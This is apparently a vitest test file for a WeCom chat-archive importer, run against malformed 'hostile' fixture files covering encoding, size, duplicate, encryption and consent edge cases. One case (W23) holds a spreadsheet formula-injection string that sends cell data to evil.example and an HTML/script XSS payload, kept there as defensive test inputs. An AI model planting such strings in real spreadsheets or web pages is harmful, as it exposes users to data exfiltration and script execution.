import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { ImportReport } from '../../../shared/ipc/import.ts';
import type { Message } from '../../../shared/model.ts';
import { provenanceOf } from './index.ts';
import { openKit, sharedData, type Kit } from './testing/kit.ts';

/** Agreement of everybody in the hostile files, so that what is loaded depends on reading alone. */
const REGISTER = `employee,customer,room,status,time
zhangsan,wmErxtDgAA9AW32YyyuYRimKr7D1KWlw,,agree,2020-01-01T00:00:00Z
,wo137MCgAAYW6pIiKKrDe5SlzEhSgwbA,,agree,2020-01-01T00:00:00Z
,wo3_d2DAAAI5DwancuqE_5WBJl8kOE9Q,wr3_d2DAAAi9g6AVWSZf9rChgxSSpvxw,agree,2020-01-01T00:00:00Z
,wm3_d2DAAAmQ1gzS0Gq0_zFV2CgNGxcw,wr3_d2DAAAi9g6AVWSZf9rChgxSSpvxw,agree,2020-01-01T00:00:00Z
`;

type Result = { readonly report: ImportReport; readonly messages: readonly Message[]; readonly kit: Kit };
type Case = {
  readonly id: string;
  readonly file: string;
  readonly must: string;
  readonly check: (result: Result) => void;
};

const codes = (report: ImportReport): string[] => report.problems.map((problem) => problem.code);

const CASES: readonly Case[] = [
  {
    id: 'W01',
    file: 'w01-filesize-over-int32.jsonl',
    must: 'import 3 messages; size shown exactly',
    check({ report, messages }) {
      expect(report.loaded).toBe(3);
      expect(messages[1]?.payload).toMatchObject({ filesize: 2287375645 });
    },
  },
  {
    id: 'W02',
    file: 'w02-uint64-ids.jsonl',
    must: 'import 3; the raw record kept for evidence still holds the exact digits',
    check({ report, messages, kit }) {
      expect(report.loaded).toBe(3);
      expect(messages[1]?.payload).toMatchObject({ meetingid: '18446744073709551557' });
      expect(messages[2]?.payload).toMatchObject({ feed_id: '9007199254740993' });
      expect(provenanceOf(kit.archive.read, messages[1]?.id ?? 0).rawText).toContain('18446744073709551557');
    },
  },
  {
    id: 'W03',
    file: 'w03-all-null-fields.jsonl',
    must: 'import 1 link; null fields must not be taken for content',
    check({ report, messages }) {
      expect(report.loaded).toBe(1);
      expect(messages[0]).toMatchObject({ kind: 'link', seq: null });
      expect(messages[0]?.parts.map((part) => part.path)).toEqual([
        'link.title',
        'link.description',
        'link.link_url',
        'link.image_url',
      ]);
    },
  },
  {
    id: 'W04',
    file: 'w04-raw-control-chars.jsonl',
    must: 'import 3 (repair or quarantine line 2 with a visible count)',
    check({ report, messages }) {
      expect(report.loaded).toBe(3);
      expect(messages[1]?.text).toContain('\u001b[0;32m ok');
      expect(report.problems).toMatchObject([{ line: 2, code: 'json.controlCharacters' }]);
    },
  },
  {
    id: 'W07',
    file: 'w07-wrapped-chatdata.json',
    must: 'import 1 (seq 196)',
    check({ report, messages }) {
      expect(report.loaded).toBe(1);
      expect(messages[0]).toMatchObject({ seq: '196', msgid: 'CAQQluDa4QUY0On2rYSAgAMgzPrShAE=', text: 'test' });
      expect(codes(report)).toEqual(['record.otherMsgid']);
    },
  },
  {
    id: 'W09',
    file: 'w09-nested-chatrecord.jsonl',
    must: 'import 2; search for 保本保息 finds the innermost text',
    check({ report, messages }) {
      expect(report.loaded).toBe(2);
      expect(messages[1]?.text).toContain('最里层：保本保息');
      const part = messages[1]?.parts.find((one) => messages[1]?.text.slice(one.start, one.end) === '最里层：保本保息');
      expect(part?.path).toBe(`chatrecord${'.item.0.content'.repeat(6)}`);
    },
  },
  {
    id: 'W10',
    file: 'w10-events-without-usual-fields.jsonl',
    must: 'import 4, nothing at 1970 in a normal timeline without a warning, unknown types shown raw',
    check({ report, messages }) {
      expect(report.loaded).toBe(4);
      expect(messages.map((message) => message.kind)).toEqual(['switch', 'image', 'call', 'file']);
      expect(messages[1]).toMatchObject({ sentAtMs: null, problems: ['time.zero'] });
      expect(messages[0]?.sentAtMs).toBe(1554119421840);
      expect(messages[3]).toMatchObject({ type: 'qydiskfile', text: 'x.pdf' });
    },
  },
  {
    id: 'W11',
    file: 'w11-duplicates-and-overlap.jsonl',
    must: '4 messages, 3 duplicates reported',
    check({ report, messages, kit }) {
      expect([report.loaded, report.duplicates, report.conflicts]).toEqual([4, 3, 0]);
      const third = provenanceOf(kit.archive.read, messages[2]?.id ?? 0);
      expect(third.alsoSeenIn.map((seen) => seen.sameBytes)).toEqual([true, false]);
    },
  },
  {
    id: 'W13',
    file: 'w13-revoke-unknown-target.jsonl',
    must: '2 texts kept and readable, #2 marked recalled, orphan recall shown',
    check({ messages }) {
      expect(messages.map((message) => message.text)).toEqual(['第1条', '第2条', '', '']);
      expect(messages.map((message) => message.recalledAtMs)).toEqual([null, 1700000000001, null, null]);
      expect(messages[2]?.recalls).toEqual({ msgid: '14822339130656386894_1603875600', messageId: null });
      expect(messages[3]?.recalls?.messageId).toBe(messages[1]?.id);
    },
  },
  {
    id: 'W15',
    file: 'w15-bom-crlf-blank-trailing.jsonl',
    must: '3 messages',
    check: ({ report }) => expect(report.loaded).toBe(3),
  },
  {
    id: 'W16',
    file: 'w16-utf16le.jsonl',
    must: '2 messages or a clear "wrong encoding" message',
    check({ report, messages }) {
      expect(messages.map((message) => message.text)).toEqual(['第1条', '第2条']);
      expect(report.files[0]?.encoding).toBe('utf-16le');
    },
  },
  {
    id: 'W17',
    file: 'w17-gbk.jsonl',
    must: 'not shown as mojibake without warning; original bytes kept',
    check({ messages, kit }) {
      expect(messages[0]).toMatchObject({ text: '保本保息', problems: ['encoding.gbk'] });
      const { record_id } = kit.archive.read.prepare('SELECT record_id FROM message').get() as { record_id: number };
      expect(record_id).toBe(1);
    },
  },
  {
    id: 'W18',
    file: 'w18-bad-utf8-and-nul.jsonl',
    must: '3 messages; line 2 flagged',
    check({ report, messages }) {
      expect(report.loaded).toBe(3);
      expect(report.problems).toMatchObject([
        { line: 2, code: 'encoding.invalidUtf8' },
        { line: 2, code: 'text.nul' },
      ]);
      expect(messages[1]?.text).toMatch(/^坏.*字\0节$/);
    },
  },
  {
    id: 'W20',
    file: 'w20-truncated-last-line.jsonl',
    must: '2 messages + 1 reported bad record',
    check({ report }) {
      expect([report.loaded, report.undecodable]).toEqual([2, 1]);
      expect(report.problems).toMatchObject([{ line: 3, code: 'json.invalid' }]);
    },
  },
  {
    id: 'W21',
    file: 'w21-wrong-types.jsonl',
    must: 'no crash; 9 records kept or reported, 5 lines reported',
    check({ report, messages }) {
      expect(report).toMatchObject({ read: 14, loaded: 5, undecodable: 5, withheld: { unknown: 4 } });
      expect(messages.map((message) => message.text)).toEqual(['裸字符串', '', '', '第8条', 'a\nb']);
    },
  },
  {
    id: 'W23',
    file: 'w23-formula-html-bidi.jsonl',
    must: 'exports neutralise formulas and HTML: here the text is kept as it is',
    check({ report, messages }) {
      // The eighth is talk with somebody outside (`_external`) and names no customer.
      expect(report).toMatchObject({ loaded: 7, withheld: { unknown: 1 } });
      expect(messages[0]?.text).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
      expect(messages[2]?.text).toBe('<img src=x onerror=alert(1)><script>alert(2)</script>');
    },
  },
  {
    id: 'W24',
    file: 'w24-very-long-text.jsonl',
    must: '4 messages; 保本 at the end of #3 found',
    check({ report, messages }) {
      expect(report.loaded).toBe(4);
      expect(messages.map((message) => message.text.length)).toEqual([3, 1_000_000, 300_002, 40_000]);
      expect(messages[2]?.text.endsWith('保本')).toBe(true);
    },
  },
];

const available = sharedData('hostile/CASES.json') !== null;
let kit: Kit;
beforeEach(() => (kit = openKit()));
afterEach(() => kit.cleanup());

describe.runIf(available)('hostile WeCom files', () => {
  test.each(CASES)('$id must: $must', async ({ file, check }) => {
    const path = sharedData(`hostile/wecom/${file}`) ?? '';
    const options = { consent: [kit.file('register.csv', REGISTER)], basis: 'employees told in writing' };
    const preview = await kit.inspect([path], options);
    const report = await kit.load([path], options);
    check({ report, messages: kit.messages(), kit });
    const { read, loaded, withheld, duplicates, conflicts, encrypted, undecodable, deleted } = report;
    expect(preview.counts).toEqual({ read, loaded, withheld, duplicates, conflicts, encrypted, undecodable, deleted });
    expect(preview.problems).toEqual(report.problems);
    expect(preview.problemCount).toBe(report.problemCount);
  });

  test('every case of the catalogue that concerns WeCom is here', () => {
    const catalogue = JSON.parse(readFileSync(sharedData('hostile/CASES.json') ?? '', 'utf8')) as {
      id: string;
      format: string;
    }[];
    const ids = catalogue.filter((one) => one.format === 'wecom').map((one) => one.id);
    expect([...CASES.map((one) => one.id), 'W08', 'W26'].sort()).toEqual(ids.sort());
  });

  test('W08 must: clear message "still encrypted, key version 3"; 0 messages; not "success"', async () => {
    const path = sharedData('hostile/wecom/w08-still-encrypted.jsonl') ?? '';
    expect(await kit.inspect([path])).toMatchObject({
      counts: { read: 1, loaded: 0, encrypted: 1 },
      keyVersions: ['3'],
    });
    await expect(kit.load([path])).rejects.toMatchObject({
      code: 'import.stillEncrypted',
      details: { records: 1, keyVersions: ['3'] },
    });
    expect(kit.messages()).toEqual([]);
  });

  test('W26 must: consent state per moment: 1 = none, 6 = refused, 10 = agreed', async () => {
    const path = sharedData('hostile/wecom/w26-consent-edge.jsonl') ?? '';
    const { firstRecords } = await kit.inspect([path]);
    const consentOf = (id: string) => firstRecords.find((record) => record.msgid.startsWith(id))?.consent;
    expect([consentOf('10000000001'), consentOf('10000000006'), consentOf('10000000010')]).toEqual([
      'unknown',
      'refused',
      'agreed',
    ]);
    const report = await kit.load([path]);
    expect(report).toMatchObject({ read: 6, loaded: 4, withheld: { unknown: 1, refused: 1 } });
    expect(codes(report)).toEqual(['consent.otherCustomer']);
  });
});
